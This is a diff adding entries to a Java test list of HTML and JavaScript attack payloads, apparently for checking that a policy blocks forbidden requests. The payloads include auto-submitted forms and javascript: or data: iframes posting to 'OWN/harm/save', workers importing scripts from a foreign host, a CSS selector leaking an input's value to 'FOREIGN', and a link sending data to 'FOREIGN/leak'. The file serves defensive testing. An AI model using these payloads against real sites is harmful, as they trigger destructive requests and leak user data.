@@ -155,6 +155,49 @@ record Attack(String name, String html, String policy) {
         script(
             "upper case and extension hide the verb",
             "fetch('OWN/harm/QUERY_DELETE.json',{method:'POST'})"),
-        script("script moves to a script address", "location.href='OWN/harm/save.do?delete'"));
+        script("script moves to a script address", "location.href='OWN/harm/save.do?delete'"),
+        script("event source of a deleting address", "new EventSource('OWN/harm/deleteX')"),
+        script(
+            "worker takes a script from abroad",
+            "new Worker(URL.createObjectURL(new Blob([\"importScripts('FOREIGN/x.js')\"])))"),
+        of(
+            "button with an address of its own posts",
+            "<form><button id=b formmethod=post formaction='OWN/harm/save'>x</button></form>"
+                + "<script>b.click()</script>"),
+        of(
+            "picture button posts",
+            form("action='OWN/query'")
+                    .replace(
+                        "</form>",
+                        "<input type=image id=b formaction='OWN/harm/save' alt=x></form>")
+                + "<script>b.click()</script>"),
+        of(
+            "form posts into a window that was opened",
+            form("action='OWN/harm/save' target=w")
+                + "<script>window.open('about:blank','w');f.submit()</script>"),
+        of(
+            "frame whose address is its text posts",
+            "<iframe src=\"data:text/html,<form id=f method=post action='OWN/harm/save'></form>"
+                + "<script>f.submit()</script>\"></iframe>"),
+        of(
+            "frame whose address is a script posts",
+            "<iframe src=\"javascript:fetch('OWN/harm/save',{method:'POST'})\"></iframe>"),
+        of(
+            "style tells a value by its first letter",
+            "<style>input[value^='1']{background:url('FOREIGN/begins-with-1')}</style>"
+                + "<input value=123>"),
+        of("poster of a video abroad", "<video poster='FOREIGN/p.png'></video>"),
+        script("style worklet abroad", "CSS.paintWorklet.addModule('FOREIGN/p.js')"),
+        script(
+            "window that was opened posts by its own script",
+            "let w=window.open();w&&w.eval(\"fetch('OWN/harm/save',{method:'POST'})\")"),
+        script(
+            "link in a new window to a foreign host",
+            "let a=document.createElement('a');a.href='FOREIGN/leak?d=1';a.target='_blank';"
+                + "a.click()"),
+        of(
+            "svg takes a part from abroad",
+            "<svg><filter><feImage href='FOREIGN/f.png'/></filter></svg>"
+                + "<img srcset='FOREIGN/2x.png 2x, FOREIGN/1x.png 1x'>"));
   }
 }
